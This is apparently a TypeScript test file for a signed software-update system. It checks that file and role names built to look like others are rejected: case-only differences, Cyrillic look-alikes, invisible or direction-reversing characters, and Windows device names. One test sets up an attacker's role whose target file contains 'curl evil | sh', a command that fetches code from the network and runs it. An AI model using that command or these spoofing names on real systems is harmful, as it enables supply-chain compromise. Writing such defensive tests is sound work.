import { describe, expect } from 'vitest';
import type { RuleId } from '../../src/event/reason.ts';
import { cardKey, drafted, entryOf, files, read, signed, strangeKey } from './attacker.ts';
import {
  expectRejected,
  expectStopped,
  expectUnmoved,
  folderWith,
  pushBelowTargets,
  unwrapped,
} from './proofs.ts';
import { attack, type Scene, UPDATE } from './scene.ts';

const COMPOSED = 'caf\u00e9.txt';

/** Files of the attacker's under targets/, without anybody's signature. */
const adding =
  (...paths: readonly string[]) =>
  ({ world }: Scene): void =>
    void world.push(Object.fromEntries(paths.map(path => [`targets/${path}`, `echo ${path.length}\n`])));

/**
 * Mallory can push to an event's branch. She adds a file or a role whose name people take for another one, or that a machine
 * takes for another one: a checkout that folds case, a client on Windows, a terminal that turns text around.
 */
describe('names that look like others', () => {
  const refused: readonly (readonly [
    string,
    (scene: Scene) => void,
    readonly RuleId[],
    readonly string[],
  ])[] = [
    ['case alone', adding('tools/Greet.sh'), ['artifacts', 'ownership'], ['differ in case only']],
    [
      'two new files that case alone tells apart',
      adding('A.bin', 'a.bin'),
      ['artifacts', 'ownership'],
      ['A.bin', 'a.bin', 'differ in case only'],
    ],
    [
      'a folder that case alone tells from a file',
      adding('Tools'),
      ['artifacts', 'ownership'],
      ['Tools', 'has a folder, but for case'],
    ],
    [
      'Cyrillic letters among Latin ones',
      adding('tools/gr\u0435et.sh'),
      ['artifacts', 'ownership'],
      ['mixes Latin letters with look-alikes of another script'],
    ],
    [
      'the same name in another normal form',
      adding(COMPOSED, COMPOSED.normalize('NFD')),
      ['artifacts', 'ownership'],
      ['is not in Unicode normal form (NFKC)'],
    ],
    [
      'text that is turned around',
      adding('tools/greet\u202ehs.txt'),
      ['artifacts', 'ownership'],
      ['\\u{202e}', 'holds a character that can not be seen'],
    ],
    [
      'a character without width',
      adding('tools/greet\u200b.sh'),
      ['artifacts', 'ownership'],
      ['\\u{200b}', 'holds a character that can not be seen'],
    ],
    [
      'a look-alike of a slash',
      adding('tools\u2215greet.sh'),
      ['artifacts', 'ownership'],
      ['look-alike of a slash'],
    ],
    [
      'a name that is no UTF-8',
      ({ world }) =>
        pushBelowTargets(world, '40000', folderWith(world, Buffer.from('gr\xe9et', 'latin1'), 'x')),
      ['artifacts', 'metadata-names'],
      ['is a name that is not UTF-8'],
    ],
    [
      'a role with Cyrillic letters',
      ({ world }) =>
        void world.push({
          'metadata/t\u043e\u043els.json': world.remote.git('show', 'main:metadata/tools.json'),
        }),
      ['metadata-names'],
      ['may hold only ASCII letters, digits, dots, hyphens and underscores'],
    ],
    [
      'a role that case alone tells apart',
      ({ world }) =>
        void world.push({ 'metadata/Tools.json': world.remote.git('show', 'main:metadata/tools.json') }),
      ['orphans', 'metadata-names'],
      ['differ in case only'],
    ],
  ];
  attack(`are refused and named: ${refused.map(([what]) => what).join(', ')}`, async scene => {
    for (const [, push, rules, words] of refused) {
      push(scene);
      await expectRejected(scene, rules, words);
      scene.world.remote.git('update-ref', '-d', `refs/heads/${UPDATE}`);
    }
  });

  attack('reach no client by force', async scene => {
    const client = scene.client();
    await expectUnmoved(scene, client);
    adding('tools/Greet.sh', 'tools/gr\u0435et.sh', 'tools/greet\u200b.sh', COMPOSED.normalize('NFD'))(scene);
    scene.world.push({ 'metadata/Tools.json': '{}' });
    const { online, published } = await scene.force();
    for (const run of [online, published]) {
      expectStopped(run, 'ownership');
      expectStopped(run, 'metadata-names');
    }
    await expectUnmoved(scene, client);
  });

  const doubtful = [
    [
      'a word all of look-alikes',
      'tools/\u0441\u043e\u0441.sh',
      'holds U+0441 U+043E, beyond ASCII: make sure that it is no look-alike',
    ],
    ['a device of Windows', 'tools/CON', 'has a segment that is a device name on Windows'],
    [
      'a stream of another file on Windows',
      'tools/greet.sh:x',
      'is no file name on Windows, or that of another file',
    ],
  ] as const;
  for (const [what, path, words] of doubtful) {
    attack(`${what}: whoever signs is told before, and nobody else signs it for them`, async scene => {
      const client = scene.client();
      adding(path)(scene);
      await scene.update();
      const page = await scene.page();
      expect([page.verdict, page.warned]).toEqual(['pending', ['ownership']]);
      expect(page.markdown).toContain(words);
      const bob = await scene.sign('bob', undefined, question => !question.startsWith('Sign '));
      expect([bob.signed, bob.refusal?.code]).toEqual([[], 'DECLINED']);
      expect(unwrapped(bob.screen)).toContain(words);
      const { online } = await scene.force();
      expect([online.done, online.rules]).toEqual([false, ['role-quorum']]);
      await expectUnmoved(scene, client);
    });
  }

  attack('a pattern that case alone tells from that of another role is refused', async scene => {
    const key = strangeKey('mallory');
    const targets = drafted(read(scene.world, 'targets'), ({ delegations }) => {
      delegations.keys[key.keyid] = key.raw;
      const [tools] = delegations.roles;
      delegations.roles.push({
        ...tools,
        name: 'evil',
        paths: ['Tools/*'],
        keyids: [key.keyid],
        threshold: 1,
        terminating: false,
      });
    });
    const evil = drafted(read(scene.world, 'tools'), document => {
      document.version = 1;
      document.targets = { 'Tools/greet.sh': entryOf('curl evil | sh\n') };
    });
    scene.world.push({
      ...files({ targets: signed(targets, cardKey('mallory')) }),
      'metadata/evil.json': JSON.stringify(signed(evil, key)),
      'targets/Tools/greet.sh': 'curl evil | sh\n',
    });
    const words = ['path patterns', 'of', 'differ in case only'];
    const { sight } = await expectRejected(scene, ['role-quorum', 'ownership'], words);
    expect(unwrapped(sight.screen)).toContain('"tools/*" of "tools" and "Tools/*" differ in case only');
    const { online } = await scene.force();
    expectStopped(online, 'role-quorum');
    await expectUnmoved(scene);
  });
});
